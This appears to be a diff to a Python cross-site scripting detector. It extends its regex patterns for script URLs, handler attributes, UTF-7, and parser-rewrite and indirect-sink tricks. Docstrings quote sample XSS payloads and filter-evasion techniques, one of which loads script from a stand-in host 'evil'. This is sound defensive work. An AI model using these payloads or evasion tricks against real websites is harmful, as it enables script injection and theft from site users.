@@ -35,11 +35,14 @@ URL_ATTRS = frozenset({
 })
 _SCRIPT_URL = re.compile(
     r"(?:j\s*a\s*v\s*a|v\s*b|l\s*i\s*v\s*e)\s*s\s*c\s*r\s*i\s*p\s*t\s*:[\s:]*"
-    r"(?://|%(?!(?:09|20)[^\W\d_]+%(?:09|20))|\\|[\w$.\[\]'\"+/]+\s*[(\x60=]|\(|\[|\{|'|\")"
+    r"(?://|%(?!(?:09|20)[^\W\d_]+%(?:09|20))|\\|[\w$.\[\]'\"+/]+\s*[(\x60=]|\(|\[|\{|'|\""
+    r"|(?:let|var|const)\s+[\w$]+\s*=|(?:new|void|typeof|throw|await|delete)\s+[\w$.]+[(\x60\[])"
     r"|data\s*:\s*(?:text/html|(?P<svg>image/svg\+xml)|application/(?:x-)?(?:javascript|ecmascript|xhtml)"
     r"|text/(?:x-)?(?:javascript|ecmascript|jscript))",
     re.I,
 )
+"""After the scheme, code: a call, an assignment, a string, or a statement keyword before a name
+(``javascript:let t=document;…``, ``javascript:new Image().src=…``, ``javascript:void fetch(…)``)."""
 _SVG_PARAMS = re.compile(r"[^,]{0,100},")
 _B64_PAYLOAD = re.compile(r"[A-Za-z0-9+/=_\s-]*")
 _NEXT_DATA_URL = re.compile(r"data\s*:", re.I)
@@ -91,9 +94,10 @@ EVENTS = (
     r"pointer\w+|popstate|progress|readystatechange|repeat|reset|resize|scroll\w*|search|select\w*|"
     r"show|start|submit|toggle|touch\w+|transition\w+|unload|wheel)"
 )
-_HANDLER_EQ = re.compile(r"[\s/\"'\x60](on[a-z]{3,})\s*=", re.I)
+_HANDLER_EQ = re.compile(r"[\s\x00-\x1f/\"'\x60](on[a-z]{3,})\s*=", re.I)
 """A handler attribute after a space, a ``/`` or a quote; Internet Explorer also quotes values with a backtick
-(``src=`x`onerror=…``)."""
+(``src=`x`onerror=…``). A control character counts as the blank (``a"\x01onclick=…``, sent as ``%01``): older and
+lenient parsers (IE, server-side sanitisers that drop controls) read it as one."""
 _EVENT_NAME = re.compile(EVENTS, re.I)
 _HANDLER_ATTR = re.compile(r"on[a-z]{3,}", re.I)
 _FRAMEWORK_HANDLER = re.compile(
@@ -180,7 +184,8 @@ _BREAKOUT_CALL = re.compile(
 """A string closed, then the brackets around it (``"])}``, ``"));``), then within a short statement a sink call:
 ``"])}catch(e){if(!this.x)alert(…)``. Prose closes a quote with at most one bracket."""
 _HANDLER_SINK = re.compile(
-    r"(?:^|[\s/\"'>]|<[a-z]{1,12}?)" + EVENTS + r"\s*=\s*['\"]?\s*(?:javascript\s*:\s*)?[\w.\[\]'\"]{0,40}?(?<![\w$])"
+    r"(?:^|[\s\x00-\x1f/\"'>]|<[a-z]{1,12}?)" + EVENTS
+    + r"\s*=\s*['\"]?\s*(?:javascript\s*:\s*)?[\w.\[\]'\"]{0,40}?(?<![\w$])"
     r"(?:alert|confirm|prompt|eval|fetch|import)\s*(?:[(\x60]|\.\s*(?:call|apply|bind)\s*\(|\]\s*\[)",
     re.I,
 )
@@ -358,6 +363,8 @@ def _tag_is_script(name: str, attrs: str, after: str = "", embeds: bool = False)
             return True  # <xml src="x.htc">: an IE data island loads its data, and with it markup bound into the page
         if attr == "type" and name.lower() == "style" and "javascript" in value.lower():
             return True  # <style type="text/javascript">: JavaScript style sheets run their content
+        if name.lower() == "meta" and attr in ("charset", "content") and _UTF7_CHARSET.search(value):
+            return True  # <meta charset="utf-7">: the page is decoded as UTF-7, so +ADw-script+AD4- is <script>
     return False
 
 
@@ -437,9 +444,39 @@ def is_xss(value: str) -> tuple[int, int] | None:
     if "+ad" in value.lower() and (decoded := _UTF7_BRACKETS.sub(_utf7_bracket, value)) != value and (
             _xss(decoded) is not None):
         return 0, len(value)
-    return _xss(value)
+    found = _xss(value)
+    if found is None and "<" in value:
+        found = _rewritten_markup(value)
+    if found is None and ("\t" in value or "\n" in value or "\r" in value) and _JS_CALL.match(
+            value.translate(_URL_IGNORED)):
+        return 0, len(value)  # a\tl\te\tr\tt(1): a script URL's parser deletes the blanks inside the sink's name
+    return found
 
 
+_PLACEHOLDER = re.compile(r"\[\w{1,2}\]")
+"""html5sec's fuzzing marks (``<img[a][b]src=x[d]onerror[c]=…>``, ``href="[a]java[b]script[c]:…"``): each stands for
+a character a parser skips or reads as a blank (a tab, a line break, a control character), so the template is the
+attack its filled-in forms are. Read as a blank when a value with markup has two or more."""
+_LITERAL_BLANK = re.compile(r"\\[nrtfv]")
+"""``\\n`` written as two characters (``<img\\nsrc=x\\nonerror=…>``): a page that puts the value in a JavaScript
+string and then into ``innerHTML`` reads it as a line break between attributes."""
+
+
+def _rewritten_markup(value: str) -> tuple[int, int] | None:
+    """Markup that becomes script once a parser or a filter rewrites it: placeholders read as blanks, escaped
+    blanks unescaped, U+FFFD (what a decoder leaves for an invalid byte) dropped as ``iconv //IGNORE`` and
+    sanitisers that delete invalid bytes do (``<script\ufffd>``)."""
+    whole = 0, len(value)
+    if "[" in value and len(_PLACEHOLDER.findall(value)) >= 2 and _xss(_PLACEHOLDER.sub(" ", value)):
+        return whole
+    if "\\" in value and (unescaped := _LITERAL_BLANK.sub(" ", value)) != value and _xss(unescaped):
+        return whole
+    if "\ufffd" in value and _xss(value.replace("\ufffd", "")):
+        return whole
+    return None
+
+
+_UTF7_CHARSET = re.compile(r"utf-?7|imap4-modified-utf7", re.I)
 _UTF7_BRACKETS = re.compile(r"\+AD[wW4]-", re.I)
 """``+ADw-script+AD4-``: ``<script>`` in UTF-7, which a page declared (or sniffed) as UTF-7 decodes to markup."""
 
@@ -504,4 +541,51 @@ def _xss(value: str) -> tuple[int, int] | None:
         joined = _CONCAT.sub("", value)  # 'al'+'ert'+'(1)': string concatenation rebuilds the sink
         if joined != value and (_JS_CALL.search(joined) or _script_url(joined)):
             return 0, len(value)
+    return _gadget(value, low)
+
+
+_SINKS = r"(?:alert|confirm|prompt|eval|setTimeout|setInterval|(?-i:Function))"
+_QUOTED_ATTR_SINK = re.compile(r"[\"'\x60]\s*[\w:-]{1,30}\s*=\s*[\"'\x60]?\s*" + _SINKS + r"\s*[(\x60]", re.I)
+"""A quote closed, then any attribute whose value calls a sink (``"autofocus=alert(1)//``): the probe that checks a
+quote and ``=`` reach the page, the handler it will send under a real name."""
+_HANDLER_FUNCTION = re.compile(
+    r"^\s*(?:(?:window|self|top|document|body)\s*\.\s*)?" + EVENTS + r"\s*=\s*(?:async\s*)?"
+    r"(?:\(?[\w$,\s]{0,40}\)?\s*=>|function\s*[\w$]*\s*\()[^\n]{0,120}?(?:alert|confirm|prompt|eval|fetch|import"
+    r"|getScript|globalEval|document\s*\.\s*(?:cookie|write|domain)|location\s*=)",
+    re.I)
+"""A whole value that makes a function the page's handler (``onload=x=>$.getScript('//evil/x.js')``,
+``onerror=function(){alert(1)}``): pasted into a script it assigns ``window.onload``, whose body loads or runs
+script."""
+_SINK_ARGUMENT = re.compile(
+    r"\.\s*[a-z_$][\w$]{0,30}\((?:[^()\n]{0,40}?,)?\s*" + _SINKS + r"\s*\)[^\n]{0,60}?\)\s*[(\x60]", re.I)
+"""A sink handed to a method as a value and a returned value then called (``[1,2].with(0,alert).shift()(1)``,
+``[0].concat(confirm).pop()(1)``): the sink is called without its name before a parenthesis."""
+_UNBOUND_METHOD = re.compile(
+    r"(?:window|self|top|parent|frames|globalThis|this)\s*\.\s*[\w$]+\s*=\s*(?:\[\s*\]|\{\s*\}|[\w$]+\s*\.\s*prototype)"
+    r"\s*\.\s*[\w$]+\s*[;,][^\n]{0,200}?(?<![\w$])(?:alert|confirm|prompt|eval)\s*[(\x60]", re.I)
+"""A built-in method stored on the window and called there (``window.x=[].with;window.x().pop().alert(1)``): with the
+window as ``this`` it hands back the window's own members, a sink among them."""
+_TAGGED_CALL = re.compile(r"\.\s*(?:call|apply|bind)\s*\x60[^\x60]{0,200}?\$\{")
+"""``Function.prototype.call`` used as a template tag (``apply.call`${navigation.navigate}${navigation}${[name]}` ``):
+the template's parts become the function, its ``this`` and its arguments, a call with no parentheses."""
+_XML_EVENTS = re.compile(r"[\s\"'/][\w-]+:event\s*=|<(?:[\w-]+:)?(?:handler|listener)\b", re.I)
+"""XML Events (``<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>``): a
+listener element or ``ev:event`` attribute under the XML Events namespace runs its content in SVG viewers that
+implement it. Judged only when the value names that namespace."""
+_SPACED_SCRIPT = re.compile(
+    r"<(?=[\s\x00-\x1f/])[\s\x00-\x1f]*+/?[\s\x00-\x1f]*+script[\s\x00-\x1f]*+>"
+    r"[^<]{0,60}?(?:alert|confirm|prompt|eval)\s*[(\x60]", re.I)
+"""``<\tscript\t>alert\t(1)``: HTML5 reads ``<`` then a blank as text, so no current browser runs it; a filter
+or normaliser that deletes blanks after ``<`` makes it a script element. A probe for such a filter: no text writes a
+spaced script tag and a sink call."""
+
+
+def _gadget(value: str, low: str) -> tuple[int, int] | None:
+    """Script with no tag that calls a sink indirectly or reaches a page through a lenient parser."""
+    for pattern, needed in ((_QUOTED_ATTR_SINK, "="), (_HANDLER_FUNCTION, "="), (_SINK_ARGUMENT, "("),
+                            (_UNBOUND_METHOD, "="), (_TAGGED_CALL, "${"), (_SPACED_SCRIPT, "<")):
+        if needed in value and (found := pattern.search(value)):
+            return found.start(), found.end()
+    if "xml-events" in low and (event := _XML_EVENTS.search(value)):
+        return event.start(), event.end()
     return None
